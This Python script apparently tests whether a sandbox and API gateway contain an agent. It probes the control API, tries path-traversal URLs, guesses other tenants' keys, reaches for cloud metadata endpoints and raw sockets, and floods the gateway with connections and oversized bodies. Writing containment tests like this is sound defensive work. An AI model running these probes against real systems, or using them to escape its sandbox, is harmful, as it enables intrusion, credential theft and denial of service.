"""An agent that reaches for what is beyond its gateway."""

from __future__ import annotations

import http.client
import json
import os
import socket
import subprocess
import threading
import urllib.parse
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

from telling import BASE, KEY, TARGET, Loot, named, play

SECONDS = 5.0
GATEWAY = urllib.parse.urlsplit(BASE)
BODY = {"model": "polar", "max_tokens": 20, "messages": [{"role": "user", "content": "hello"}]}
PLACES = [
    ("GET", "/api/tasks"),
    ("GET", "/api/nodes"),
    ("GET", "/api/events"),
    ("POST", "/api/tasks"),
    ("GET", "/sessions"),
    ("POST", "/sessions"),
    ("GET", "/v1/../api/tasks"),
    ("GET", "//api/tasks"),
    ("GET", "/s/" + KEY + "/../../api/tasks"),
    ("GET", "/%2e%2e/api/tasks"),
]


def connect(host: str, port: int) -> Callable[[], str]:
    def work() -> str:
        with socket.create_connection((host, port), timeout=SECONDS) as connection:
            return f"connected to {connection.getpeername()}"

    return work


def ask(method: str, path: str, headers: dict[str, str], body: object = None) -> tuple[int, str]:
    """One request to the gateway."""
    gateway = http.client.HTTPConnection(GATEWAY.hostname or "", GATEWAY.port, timeout=30)
    try:
        headers = {"content-type": "application/json", **headers}
        gateway.request(method, path, None if body is None else json.dumps(body), headers)
        response = gateway.getresponse()
        return response.status, response.read().decode(errors="replace")
    finally:
        gateway.close()


def control_api() -> None:
    """By its port on every address there is, and through the gateway."""
    loot = Loot()
    for host in ["127.0.0.1", "::1", "localhost", *TARGET["addresses"]]:
        for port in [*TARGET["api_ports"], TARGET["listener"]]:
            loot.attempt(f"{host}:{port}", connect(host, port))
    for method, path in PLACES:
        status, text = ask(method, path, {"authorization": f"Bearer {KEY}"}, {})
        if status < 400:
            loot.got.append(f"{method} {path}: {status} {text[:200]}")
        loot.met[f"{method} {path}".replace(KEY, "KEY")] = str(status)
    loot.tell()


def control_api_by_loopback() -> None:
    """With an open network, which shares the loopback of the machine."""
    loot = Loot()
    for port in TARGET["api_ports"]:
        for key in ["", KEY, "polar", "0" * 64]:
            api = http.client.HTTPConnection("127.0.0.1", port, timeout=SECONDS)
            try:
                headers = {"authorization": f"Bearer {key}"} if key else {}
                api.request("GET", "/api/tasks", headers=headers)
                response = api.getresponse()
                text = response.read().decode()
                if response.status < 400:
                    loot.got.append(text[:200])
                loot.met[f"as {key!r}".replace(KEY, "KEY")] = f"{response.status} {text}"
            except OSError as problem:
                loot.met["connection"] = named(problem)
            finally:
                api.close()
    loot.tell()


def other_proxy() -> None:
    """With secrets that are not its own, wherever one can be put."""
    loot = Loot()
    last = "0" if KEY[-1] != "0" else "1"
    guesses = ["", "polar", TARGET["victim"], KEY[:-1], KEY[:-1] + last, KEY.upper(), KEY + "0"]
    guesses += ["polar-" + "0" * 64, "*", "%00", "../" + TARGET["victim"]]
    for guess in guesses:
        quoted = urllib.parse.quote(guess, safe="")
        ways = [
            ("/v1/chat/completions", {"authorization": f"Bearer {guess}"}),
            ("/v1/messages", {"x-api-key": guess}),
            (f"/v1/chat/completions?key={quoted}", {}),
            # The path wins, so that no key of its own helps.
            (f"/s/{quoted}/v1/chat/completions", {"authorization": f"Bearer {KEY}"}),
        ]
        for path, headers in ways:
            status, text = ask("POST", path, headers, BODY)
            if status < 400:
                loot.got.append(f"{path} with {headers}: {status}")
            loot.met[f"{status} {json.loads(text)['error']['message']}"] = guess
    status, _ = ask("POST", "/v1/chat/completions", {"authorization": f"Bearer {KEY}"}, BODY)
    loot.met["own"] = str(status)
    loot.tell()


def internet() -> None:
    """Metadata services of clouds, names, and addresses."""
    loot = Loot()
    metadata = ["169.254.169.254", "fd00:ec2::254", "100.100.100.200", "169.254.170.2"]
    for host in [*metadata, "1.1.1.1", "2606:4700:4700::1111", "192.0.2.1", "10.0.0.1"]:
        loot.attempt(host, connect(host, 80))
    for name in ["metadata.google.internal", "example.org", "host.docker.internal"]:
        loot.attempt(name, lambda name=name: socket.getaddrinfo(name, 80))

    def datagram() -> int:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            return udp.sendto(b"\x00", ("8.8.8.8", 53))

    loot.attempt("udp", datagram)
    loot.attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    loot.attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
    add = ["ip", "link", "add", "out", "type", "dummy"]
    loot.attempt("ip link", lambda: subprocess.run(add, check=True, capture_output=True))
    loot.tell()


def listener() -> None:
    """What a sandbox with an open network can do; shows that the others would notice."""
    loot = Loot()

    def work() -> int:
        place = (TARGET["addresses"][0], TARGET["listener"])
        with socket.create_connection(place, timeout=SECONDS) as connection:
            return connection.send(b"open\n")

    loot.attempt("listener", work)
    loot.tell()


def flood() -> None:
    """Everything at once: idle connections, calls, bodies without an end, headers without one."""
    loot = Loot()
    address = (GATEWAY.hostname or "", GATEWAY.port or 0)
    open_ones: list[socket.socket] = []
    for _ in range(600):
        try:
            open_ones.append(socket.create_connection(address, timeout=0.2))
        except OSError as problem:
            loot.met["connection"] = named(problem)
            break
    for number, connection in enumerate(open_ones):
        key = KEY if number < 40 or number % 2 else "polar-" + "f" * 64
        head = f"POST /v1/chat/completions HTTP/1.1\r\nhost: a\r\nauthorization: Bearer {key}\r\n"
        length = "content-length: 60000000\r\n\r\n" if number < 40 or number % 3 else "x: "
        connection.settimeout(0.2)
        try:
            connection.sendall((head + length).encode())
            if number < 40:
                # Held in memory by whoever takes a body before looking at who sends it.
                for _ in range(30):
                    connection.sendall(b" " * 1_000_000)
        except OSError as problem:
            loot.met["body"] = named(problem)
    for connection in open_ones:
        connection.close()

    def call(_: int) -> int:
        try:
            return ask("POST", "/v1/chat/completions", {"authorization": f"Bearer {KEY}"}, BODY)[0]
        except (OSError, http.client.HTTPException):
            return 0

    with ThreadPoolExecutor(100) as pool:
        statuses = sorted(set(pool.map(call, range(300))))
    loot.met["calls"] = str(statuses)
    large = {**BODY, "padding": " " * (65 << 20)}
    status, text = ask("POST", "/v1/chat/completions", {"authorization": f"Bearer {KEY}"}, large)
    loot.met["large"] = f"{status} {text}"
    status, _ = ask("POST", "/v1/chat/completions", {"authorization": f"Bearer {KEY}"}, BODY)
    loot.met["afterwards"] = str(status)
    loot.tell()


def victim() -> None:
    """No attacker: makes calls, tells the test its secret, and waits for the test's word."""
    host, port = TARGET["addresses"][0], TARGET["listener"]
    calls = 0
    stop = threading.Event()
    with socket.create_connection((host, port), timeout=60) as test:
        test.sendall(
            json.dumps({"secret": KEY, "session": os.environ["POLAR_SESSION_ID"]}).encode()
        )
        test.sendall(b"\n")
        test.settimeout(None)
        threading.Thread(target=lambda: (test.recv(1), stop.set()), daemon=True).start()
        while True:
            status, _ = ask(
                "POST", "/v1/chat/completions", {"authorization": f"Bearer {KEY}"}, BODY
            )
            assert status == 200, status
            calls += 1
            if stop.wait(0.2):
                break
    loot = Loot()
    loot.met["calls"] = str(calls)
    loot.tell()


if __name__ == "__main__":
    names = [control_api, control_api_by_loopback, other_proxy, internet, listener, flood, victim]
    play({work.__name__: work for work in names})
